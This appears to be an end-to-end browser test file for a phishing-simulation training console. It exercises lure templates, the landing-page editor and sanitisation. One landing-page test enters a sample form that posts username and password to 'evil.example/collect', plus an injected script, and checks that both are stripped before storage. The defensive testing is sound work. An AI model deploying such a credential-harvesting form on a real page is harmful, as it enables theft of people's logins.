/**
 * Phishing Simulation → Templates and Landing Pages in a real browser: the built-in library, a built-in
 * lure cloned and edited with its live preview following the subject, an unknown variable refused with
 * a message under its field, the copy archived; a landing page's preview stripped of what could run or
 * send; and a prepared landing page submitted in Chromium, sending an empty body.
 *
 * `HEED_SCREENSHOTS=1 npm run test:e2e -- phishing` also saves docs/screenshots/phishing-*.png.
 */
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { BUILT_IN_LANDING_PAGES } from '../../src/modules/phishing/catalog/index.ts';
import { prepareLandingPage } from '../../src/modules/phishing/landing-page.ts';
import { type ConsoleHarness, type Page, startConsole } from './browser.ts';

let h: ConsoleHarness;
beforeAll(async () => {
  h = await startConsole();
});
afterAll(async () => {
  await h?.close();
});

async function screenshot(page: Page, name: string) {
  if (!process.env.HEED_SCREENSHOTS) return;
  // Not 'networkidle': a sandboxed srcdoc frame that has been redrawn never reports it.
  await page.waitForLoadState('load');
  await page.waitForTimeout(800);
  await page.screenshot({ path: join(resolve('docs/screenshots'), `phishing-${name}.png`) });
}

/** The text inside the sandboxed preview frame (its document is reachable from the test, not the console). */
async function previewText(page: Page, title: string) {
  const frame = page.frameLocator(`iframe[title="${title}"]`);
  return frame.locator('body').textContent();
}

describe('Phishing templates', () => {
  test('the library lists the built-ins; clone one, edit its subject with a live preview, save, refuse an unknown variable, archive it', async () => {
    const { page } = await h.signedInOwner('Acme');
    await page.setViewportSize({ width: 1440, height: 1000 });
    await page.goto('/users');
    const nav = page.getByRole('navigation', { name: 'Main' });
    await nav.getByRole('link', { name: 'Templates' }).click();
    await page.waitForURL('**/phishing/templates');
    const table = page.getByRole('table', { name: 'Templates' });
    await table.getByRole('row', { name: /Password expires today/ }).waitFor();
    expect(await table.getByText('Built-in').count()).toBeGreaterThanOrEqual(8);
    await screenshot(page, 'templates');

    // Filters live in the address.
    await page.getByRole('textbox', { name: 'Search templates' }).fill('invoice');
    await page.waitForURL('**/phishing/templates?search=invoice');
    await expect.poll(() => table.getByRole('row').count()).toBe(2); // header + one
    await page.getByRole('textbox', { name: 'Search templates' }).fill('');
    await page.waitForURL(/\/phishing\/templates$/);

    // A built-in opens read-only.
    await table.getByRole('link', { name: 'Overdue invoice' }).click();
    await page.waitForURL('**/phishing/templates/*');
    await page.getByText('This is a built-in template').waitFor();
    await expect.poll(() => previewText(page, 'Email preview')).toContain('INV-20418');
    expect(await page.getByRole('button', { name: 'Save changes' }).count()).toBe(0);
    await screenshot(page, 'template-built-in');

    await page.getByRole('button', { name: 'Clone' }).click();
    await page.getByRole('heading', { name: 'Copy of Overdue invoice', level: 2 }).waitFor();
    const subject = page.getByRole('textbox', { name: 'Subject' });
    await subject.fill('Final notice for {{firstName}}: invoice INV-20418');
    await expect
      .poll(() => page.getByTestId('preview-subject').textContent())
      .toBe('Final notice for Alex: invoice INV-20418');
    await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Invoice final notice');
    // A variable chip inserts at the cursor of the body used last.
    await page.getByRole('textbox', { name: 'HTML body' }).focus();
    await page.getByRole('textbox', { name: 'HTML body' }).press('Control+Home');
    await page.getByRole('button', { name: '{{department}}' }).click();
    await expect
      .poll(() => page.getByRole('textbox', { name: 'HTML body' }).inputValue())
      .toMatch(/^\{\{department\}\}<!doctype html>/);
    await expect.poll(() => previewText(page, 'Email preview')).toMatch(/^\s*Finance/);
    await screenshot(page, 'template-editor');
    await page.getByRole('button', { name: 'Save changes' }).click();
    await page.getByText('Saved “Invoice final notice”.').waitFor();
    await page.getByRole('heading', { name: 'Invoice final notice', level: 2 }).waitFor();

    // An unknown variable: the preview warns while typing, saving is refused under the field.
    await subject.fill('Final notice for {{first_name}}');
    await page.getByText('Saving will be refused').waitFor();
    await page.getByRole('button', { name: 'Save changes' }).click();
    await page.getByText(/Uses an unknown variable \{\{first_name\}\}: the variables are/).waitFor();
    await screenshot(page, 'template-unknown-variable');
    await subject.fill('Final notice for {{firstName}}');
    await page.getByRole('button', { name: 'Save changes' }).click();
    await page.getByText('Saved “Invoice final notice”.').last().waitFor();

    // The teachable moment lists the red flags.
    await page.getByRole('tab', { name: 'Teachable moment' }).click();
    await expect
      .poll(() => previewText(page, 'Teachable moment preview'))
      .toContain('A late fee and a delivery hold are threatened');
    await page.evaluate(() => window.scrollTo(0, 0));
    await screenshot(page, 'teachable-moment');

    await page.getByRole('button', { name: 'Archive' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Archive template' }).click();
    await page.getByText('Archived “Invoice final notice”.').waitFor();
    await page.getByRole('button', { name: 'Restore' }).waitFor();
    await page.getByRole('link', { name: 'Templates' }).first().click();
    await page.waitForURL(/\/phishing\/templates$/);
    await table.getByRole('row', { name: /Password expires today/ }).waitFor();
    expect(await table.getByText('Invoice final notice').count()).toBe(0);
    await page
      .getByRole('search', { name: 'Filter templates' })
      .getByText('Archived', { exact: true })
      .click();
    await page.waitForURL('**/phishing/templates?status=archived');
    await table.getByRole('link', { name: 'Invoice final notice' }).waitFor();

    const audit = await page.request.get('/api/v1/audit-log?limit=20');
    const actions = (await audit.json()).data.map((e: { action: string }) => e.action);
    expect(actions.slice(0, 4)).toEqual([
      'phishing_template.archived',
      'phishing_template.updated',
      'phishing_template.updated',
      'phishing_template.created',
    ]);
  });
});

describe('Landing pages', () => {
  test('the editor previews the page as it will be served, without what could run or send', async () => {
    const { page } = await h.signedInOwner('Globex');
    await page.setViewportSize({ width: 1440, height: 1000 });
    await page.goto('/phishing/landing-pages');
    const table = page.getByRole('table', { name: 'Landing pages' });
    await table.getByRole('link', { name: 'Account sign-in' }).waitFor();
    expect(await table.getByText('Built-in').count()).toBeGreaterThanOrEqual(2);
    await screenshot(page, 'landing-pages');

    await table.getByRole('link', { name: 'Shared document: sign in to view' }).click();
    await page.getByText('This is a built-in landing page').waitFor();
    await expect.poll(() => previewText(page, 'Landing page preview')).toContain('Q3 Budget Review.xlsx');
    await screenshot(page, 'landing-page-built-in');
    await page.getByRole('link', { name: 'Landing Pages' }).first().click();
    await page.waitForURL(/\/phishing\/landing-pages$/);

    await page.getByRole('link', { name: 'New Landing Page' }).click();
    await page.waitForURL('**/phishing/landing-pages/new');
    await page.getByRole('textbox', { name: 'Name' }).fill('Intranet sign-in');
    await page
      .getByRole('textbox', { name: 'HTML' })
      .fill(
        '<h1>Intranet</h1><form action="https://evil.example/collect"><input name="user" placeholder="User"><input type="password" name="pw"><button>Sign in</button></form><script>document.body.innerHTML="pwned"</script>',
      );
    await expect.poll(() => previewText(page, 'Landing page preview')).toContain('Intranet');
    await page.getByText('Form found: submissions are recorded').waitFor();
    await page.getByRole('button', { name: 'Create landing page' }).click();
    await page.getByText('Created “Intranet sign-in”.').waitFor();
    await page.waitForURL(/\/phishing\/landing-pages\/[0-9a-f-]{36}$/);
    // The editor now shows the page as stored: prepared.
    await expect
      .poll(() => page.getByRole('textbox', { name: 'HTML' }).inputValue())
      .toBe(
        '<h1>Intranet</h1><form><input placeholder="User" type="text" /><input type="password" /><button>Sign in</button></form>',
      );
    expect(await page.getByRole('button', { name: 'Save changes' }).isDisabled()).toBe(true);
    await screenshot(page, 'landing-page-editor');
  });

  test('a prepared landing page, filled in and submitted in Chromium, sends an empty body', async () => {
    const { page } = await h.signedInOwner('Initech');
    const submitUrl = 'https://track.example/s/token';
    const submissions: Array<{ method: string; url: string; body: string }> = [];
    await page.route('https://track.example/**', async (route) => {
      const request = route.request();
      // Playwright reports an empty body as null.
      submissions.push({ method: request.method(), url: request.url(), body: request.postData() ?? '' });
      await route.fulfill({ status: 200, contentType: 'text/html', body: '<p>Submitted</p>' });
    });
    for (const builtIn of BUILT_IN_LANDING_PAGES) {
      await page.goto('about:blank');
      await page.setContent(prepareLandingPage(builtIn.html, { submitUrl }));
      await page.locator('input[type=email]').fill('ann@acme.test');
      await page.locator('input[type=password]').fill('Secret-Passw0rd!');
      await Promise.all([page.waitForURL(submitUrl), page.getByRole('button').click()]);
    }
    expect(submissions).toEqual(
      BUILT_IN_LANDING_PAGES.map(() => ({ method: 'POST', url: submitUrl, body: '' })),
    );
  });
});
